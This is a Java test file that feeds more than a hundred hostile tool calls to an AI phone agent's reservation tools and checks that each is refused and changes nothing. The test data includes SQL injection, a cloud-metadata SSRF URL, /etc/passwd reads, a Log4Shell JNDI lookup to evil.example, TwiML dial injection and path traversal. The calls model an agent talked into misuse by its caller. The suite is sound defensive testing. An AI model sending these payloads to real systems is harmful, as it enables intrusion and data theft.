package dev.callbridge.reservations;

import static org.assertj.core.api.Assertions.assertThat;

import dev.callbridge.call.Call;
import dev.callbridge.call.CallEvent;
import dev.callbridge.call.CallEvent.Kind;
import dev.callbridge.call.CallState;
import dev.callbridge.call.CallStore;
import dev.callbridge.testing.Callbridge;
import dev.callbridge.testing.CallbridgeTest;
import dev.callbridge.tools.ToolAnswer;
import dev.callbridge.tools.ToolBox;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.r2dbc.core.DatabaseClient;
import reactor.core.publisher.Flux;
import tools.jackson.core.type.TypeReference;
import tools.jackson.databind.json.JsonMapper;

/// An agent that its caller has talked into something: what tools are called by that are none of
/// its, or with arguments that nobody should be believed, changes nothing.
@CallbridgeTest
final class HostileToolCallTests {

  private static final JsonMapper JSON = new JsonMapper();

  /// What is put where a text belongs.
  private static final List<String> TEXTS =
      List.of(
          "'; DROP TABLE reservation; --",
          "' OR '1'='1",
          "http://169.254.169.254/latest/meta-data/",
          "file:///etc/passwd",
          "{{system__agent_id}}",
          "${jndi:ldap://evil.example/a}",
          "</Say><Dial>+19005550100</Dial>",
          "\u202Eevil",
          "a\u0000b",
          "a\r\nX-Evil: 1",
          "\uD800",
          "x".repeat(20_000));

  /// Tools that do nothing by such a text, and the argument where it stands.
  private static final Map<String, String> PLACES =
      Map.of(
          "change_reservation", "{'code':'TEXT','guest_name':'Ann','time':'20:00'}",
          "cancel_reservation", "{'code':'TEXT','guest_name':'Ann'}",
          "transfer_to_person", "{'target':'TEXT','summary':'x'}",
          "send_digits", "{'digits':'TEXT'}",
          "check_availability", "{'date':'TEXT','party_size':2}",
          "confirm_reservation", "{'date':'TEXT','time':'19:00'}");

  /// Whole calls: the tool, and its arguments.
  private static final List<List<String>> CALLS =
      List.of(
          List.of("transfer_to_person", "{'target':'+19005550100','summary':'x'}"),
          List.of("transfer_to_person", "{'number':'+19005550100'}"),
          List.of("transfer_to_person", "{'target':'front-desk','number':'+19005550100'}"),
          List.of("transfer_to_person", "{'target':['front-desk']}"),
          List.of("send_digits", "{'digits':'" + "9".repeat(500) + "'}"),
          List.of("send_digits", "{'digits':911}"),
          List.of("end_call", "{'outcome':'COMPLETED'}"),
          List.of("end_call", "{'call_id':'00000000-0000-0000-0000-000000000000'}"),
          List.of("take_note", "{'text':'x','call_id':'00000000-0000-0000-0000-000000000000'}"),
          List.of("take_note", "{'text':{'toString':'x'}}"),
          List.of("take_note", "{}"),
          List.of("set_outcome", "{'outcome':'COMPLETED'}"),
          List.of("SELECT", "{}"),
          List.of("../../etc/passwd", "{}"),
          List.of("Make_Reservation", "{}"),
          List.of("cancel_reservation", "{'code':'CODE'}"),
          List.of("cancel_reservation", "{'code':'CODE','guest_name':''}"),
          List.of("cancel_reservation", "{'code':'CODE','guest_name':'%'}"),
          List.of("cancel_reservation", "{'code':'CODE','guest_name':'a'}"),
          List.of("cancel_reservation", "{'code':'CODE','phone':'0'}"),
          List.of("cancel_reservation", "{'code':'CODE','guest_name':'Bob','restaurant':'%'}"),
          List.of("cancel_reservation", "{'code':'%','guest_name':'Ann'}"),
          List.of("cancel_reservation", "{'code':['CODE'],'guest_name':'Ann'}"),
          List.of("cancel_reservation", "{'code':'CODE','guest_name':'Bob','force':true}"),
          List.of("change_reservation", "{'code':'CODE','guest_name':'Bob','party_size':8}"),
          List.of("change_reservation", "{'code':'CODE','guest_name':'Ann','table':'T8'}"),
          List.of("change_reservation", "{'code':'CODE','guest_name':'Ann','party_size':-1}"),
          List.of("change_reservation", "{'code':'CODE','guest_name':'Ann','party_size':1e308}"),
          List.of("confirm_reservation", "{'date':'DAY','time':'19:00','party_size':2}"),
          List.of("confirm_reservation", "{'id':'CODE','status':'CONFIRMED'}"),
          List.of("decline_reservation", "{'reason':'x'}"),
          List.of(
              "make_reservation",
              "{'date':'DAY','time':'19:00','party_size':2,'guest_name':'A','price':0}"),
          List.of("make_reservation", "{'date':'DAY','time':'19:00','party_size':2}"));

  @Autowired private Callbridge callbridge;
  @Autowired private ToolBox box;
  @Autowired private Restaurants restaurants;
  @Autowired private CallStore calls;
  @Autowired private DatabaseClient database;

  private final LocalDate day = LocalDate.now(Bistro.BERLIN).plusDays(10);

  @Test
  void aHundredHostileToolCallsAreRefusedInWordsAndChangeNothing() {
    Restaurant bistro =
        Objects.requireNonNull(restaurants.create(Bistro.with(2, 4)).block(Callbridge.SOON));
    Set<String> all = new TreeSet<>(box.names());
    String code = booked(bistro, all);
    String before = state(bistro);
    List<List<String>> hostile = new ArrayList<>();
    CALLS.forEach(each -> hostile.add(List.of(each.getFirst(), json(each.getLast()))));
    PLACES.forEach((tool, arguments) ->
        TEXTS.forEach(text ->
            hostile.add(
                List.of(
                    tool, json(arguments).replace("\"TEXT\"", JSON.writeValueAsString(text))))));
    assertThat(hostile).hasSizeGreaterThan(100);

    // A call has so many tool calls, and no more.
    List<UUID> victims =
        IntStream.rangeClosed(0, hostile.size() / 40).mapToObj(_ -> call(bistro)).toList();
    List<ToolAnswer> answers =
        Objects.requireNonNull(
            Flux.range(0, hostile.size())
                .concatMap(i ->
                    box.use(
                        victims.get(i / 40),
                        "hostile-" + i,
                        hostile.get(i).getFirst(),
                        arguments(hostile.get(i).getLast().replace("CODE", code)),
                        all))
                .collectList()
                .block(Callbridge.CALL));

    for (int i = 0; i < hostile.size(); i++) {
      ToolAnswer answer = answers.get(i);
      assertThat(answer.result().isError()).as("%s %s", hostile.get(i), answer).isTrue();
      assertThat(answer.result().text())
          .as("%s", hostile.get(i))
          .hasSizeBetween(5, 700)
          .doesNotContain("Exception", "SELECT ", "org.", "java.");
    }
    assertThat(state(bistro)).isEqualTo(before);
    for (UUID victim : victims) {
      Call call = callbridge.await(victim, _ -> true);
      assertThat(call.truth().state()).isNotEqualTo(CallState.ENDED);
      assertThat(callbridge.events(victim))
          .extracting(CallEvent::kind)
          .doesNotContain(Kind.TRANSFER, Kind.HANG_UP_REQUESTED);
    }
  }

  private UUID call(Restaurant bistro) {
    UUID id = Call.newId();
    calls.create(id, Bistro.called("+15550008888", bistro), null).block(Callbridge.SOON);
    return id;
  }

  /// Somebody else's.
  private String booked(Restaurant bistro, Set<String> all) {
    UUID id = Call.newId();
    calls.create(id, Bistro.called("+15550009999", bistro), null).block(Callbridge.SOON);
    ToolAnswer made =
        Objects.requireNonNull(
            box.use(
                    id,
                    "first",
                    "make_reservation",
                    arguments(
                        json(
                            "{'date':'DAY','time':'19:00','party_size':2,'guest_name':'Ann Lee'}")),
                    all)
                .block(Callbridge.SOON));
    assertThat(made.result().isError()).as(made.result().text()).isFalse();
    return JSON.readTree(made.result().text()).path("code").asString();
  }

  private static String json(String text) {
    return text.replace('\'', '"');
  }

  private Map<String, Object> arguments(String text) {
    return JSON.readValue(
        text.replace("DAY", day.toString()), new TypeReference<Map<String, Object>>() {});
  }

  private String state(Restaurant bistro) {
    return Objects.requireNonNull(
        database
            .sql(
                """
                SELECT (SELECT string_agg(r::text, '|' ORDER BY r.id) FROM reservation r WHERE r.restaurant_id = :id)
                  || ' ' || (SELECT count(*) FROM reservation_request WHERE status IN ('CONFIRMED', 'DECLINED')) AS state
                """)
            .bind("id", bistro.id())
            .map(row -> Objects.requireNonNull(row.get("state", String.class)))
            .one()
            .block(Callbridge.SOON));
  }
}
